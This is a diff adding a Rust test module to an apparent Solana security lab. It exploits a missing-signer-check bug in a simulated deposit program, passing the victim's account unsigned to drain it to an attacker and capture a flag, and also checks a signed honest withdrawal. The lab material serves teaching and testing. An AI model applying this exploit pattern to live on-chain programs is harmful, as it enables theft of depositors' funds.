@@ -0,0 +1,92 @@
+//! Anyone names a depositor's account and drains it without their signature
+
+use anyhow::{ensure, Result as AnyResult};
+use lab_instructions::missing_signer_check::withdraw_ix;
+use lab_svm::{Signer, Svm, LAMPORTS_PER_SOL};
+use solana_program::entrypoint::ProcessInstruction;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::{attacker, fixtures, victim, vulnerability, Harness, Version};
+
+/// the victim's deposit account is passed unsigned and drained to the attacker
+#[vulnerability(
+    id = "SOL-001",
+    category = "MissingSignerCheck",
+    severity = "Critical",
+    difficulty = "Beginner",
+    rejection = "Validation(MissingSignature)",
+    honest_use = honest_use,
+    reference(
+        title = "Sealevel Attacks: signer authorization",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/0-signer-authorization",
+    ),
+    reference(
+        title = "Neodyme: Solana common pitfalls",
+        url = "https://blog.neodyme.io/posts/solana_common_pitfalls",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(harness, missing_signer_check::process_instruction),
+        Version::Secure => attack(harness, missing_signer_check_secure::process_instruction),
+    }
+}
+
+const DEPOSIT: u64 = 5 * LAMPORTS_PER_SOL;
+
+fn attack(svm: &mut Svm, program: ProcessInstruction) -> AnyResult<()> {
+    let program_id = deploy(svm, "missing_signer_check", program);
+    let deposit = program_account(
+        svm,
+        fixtures::address("missing_signer_check/deposit"),
+        &program_id,
+        Vec::new(),
+        DEPOSIT,
+    );
+    let attacker_key = fund(svm, &attacker());
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Drain {
+            account: deposit,
+            amount: DEPOSIT,
+        },
+    )?;
+
+    let stolen = svm.lamports(&deposit);
+    let before = svm.lamports(&attacker_key);
+    let mut withdraw = withdraw_ix(program_id, deposit, attacker_key, stolen);
+    // Writable, but nobody signed for it
+    withdraw.accounts[0].is_signer = false;
+    svm.send(&[withdraw], &[&attacker()])?;
+
+    let gained = svm.lamports(&attacker_key) - before;
+    ensure!(gained >= DEPOSIT, "attacker gained only {gained}");
+    ctf::capture(svm, &flag)
+}
+
+/// The depositor withdraws their own deposit, signing for it
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let program = match harness.version() {
+        Version::Vulnerable => missing_signer_check::process_instruction,
+        Version::Secure => missing_signer_check_secure::process_instruction,
+    };
+    let program_id = deploy(harness, "missing_signer_check", program);
+    let depositor = fixtures::keypair("missing_signer_check/depositor");
+    let deposit = program_account(
+        harness,
+        depositor.pubkey(),
+        &program_id,
+        Vec::new(),
+        DEPOSIT,
+    );
+    let destination = fund(harness, &victim());
+
+    harness.send(
+        &[withdraw_ix(program_id, deposit, destination, DEPOSIT)],
+        &[&depositor],
+    )?;
+    Ok(())
+}